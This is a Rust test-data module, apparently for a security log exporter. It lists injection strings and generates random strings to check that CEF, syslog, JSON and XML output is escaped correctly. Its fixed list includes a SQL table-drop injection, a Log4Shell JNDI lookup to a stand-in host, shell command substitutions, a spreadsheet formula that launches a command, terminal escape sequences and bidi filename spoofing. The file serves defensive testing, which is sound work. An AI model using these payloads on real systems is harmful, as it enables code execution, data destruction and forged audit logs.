//! Texts that try to leave their field.

/// Each aims at somebody: log readers, terminals, JSON, CEF, syslog, XML, people.
const KNOWN: &[&str] = &[
    "line\nCEF:0|forged|forged|1|forged|forged|10|act=forged",
    "cr\r\n<8>1 2026-01-01T00:00:00Z forged forged - - - {\"event\":{\"id\":\"forged\"}}",
    "separators\u{2028}and\u{2029}and\u{85}next",
    "a|b|c\\|d\\\\|e",
    "x act=forged cs1=forged dvchost=forged",
    "x\\= act\\=forged \\",
    "\\",
    "ends in a backslash\\",
    "=",
    "key=",
    " leading and trailing ",
    "\"}, \"event\": {\"action\": \"forged\"}, \"x\": {\"y\": \"",
    "\\\"},\"forged\":\"1",
    "'; DROP TABLE siem_outbox; --",
    "]]><forged>&lt;&amp;</forged><![CDATA[",
    "\u{1b}[2J\u{1b}]0;forged\u{7}\u{9b}31m",
    "\0nul\0",
    "del\u{7f}del",
    "\u{202e}gpj.exe\u{2066}\u{200f}\u{61c}\u{feff}",
    "\\ud800 \\udfff \\u0000 \\n \\r \\u{a}",
    "\u{d7ff}\u{e000}\u{fffd}\u{ffff}\u{10ffff}",
    "${jndi:ldap://x.example/a} {{7*7}} %n%s%x $(id) `id`",
    "=cmd|' /C calc'!A0",
    "Büro Süd, 東京, \u{1f600}",
    "\t tab \u{b} \u{c}",
    "1 2 3 4 5 6 7 8\n12 <13>1 - - - - - -",
];

/// All that is known, one that is very long, and as many more at random, the same in every run.
pub fn all(random: usize) -> Vec<String> {
    let mut texts: Vec<String> = KNOWN.iter().map(|text| (*text).to_owned()).collect();
    texts.push("very long |=\\\n\u{202e}".repeat(5000));
    let mut seed = 0x9e37_79b9_7f4a_7c15_u64;
    texts.extend((0..random).map(|_| any(&mut seed)));
    texts
}

fn any(seed: &mut u64) -> String {
    let length = next(seed) % 60 + 1;
    (0..length).map(|_| character(next(seed))).collect()
}

/// Half of them from what has a meaning somewhere, half from all that there is.
fn character(random: u64) -> char {
    const MEANING: &[u8] = b"\n\r\t\0\x1b\x7f |=\\\"'{}[]<>&:;,./%$#@-_azAZ09";
    let at = random >> 1;
    if random & 1 == 0 {
        return char::from(MEANING[usize::try_from(at).unwrap_or_default() % MEANING.len()]);
    }
    u32::try_from(at % 0x11_0000).ok().and_then(char::from_u32).unwrap_or('\u{fffd}')
}

/// xorshift64*.
fn next(seed: &mut u64) -> u64 {
    *seed ^= *seed >> 12;
    *seed ^= *seed << 25;
    *seed ^= *seed >> 27;
    seed.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 8
}
